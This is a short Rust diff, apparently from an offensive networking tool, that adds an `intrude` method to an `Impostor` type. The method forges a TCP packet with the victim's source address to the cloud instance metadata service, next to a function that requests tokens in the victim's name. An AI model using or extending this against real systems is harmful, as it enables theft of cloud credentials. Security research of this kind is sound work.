@@ -113,6 +113,22 @@ impl<'a> Impostor<'a> {
         Ok(())
     }
 
+    /// Sends a packet that seems to belong to the victim's connection to the metadata service from `port`.
+    ///
+    /// # Errors
+    /// When it cannot be sent.
+    pub fn intrude(&self, port: u16) -> Result<()> {
+        let segment = Segment {
+            from: SocketAddrV4::new(self.victim.0, port),
+            to: SocketAddrV4::new(IMDS, IMDS_PORT),
+            flags: ACK,
+            seq: 1,
+            ack: 1,
+            text: Vec::new(),
+        };
+        self.send(self.node.1, IPV4, &segment.packet())
+    }
+
     /// Asks for a token in the victim's name and returns what was answered.
     ///
     /// # Errors
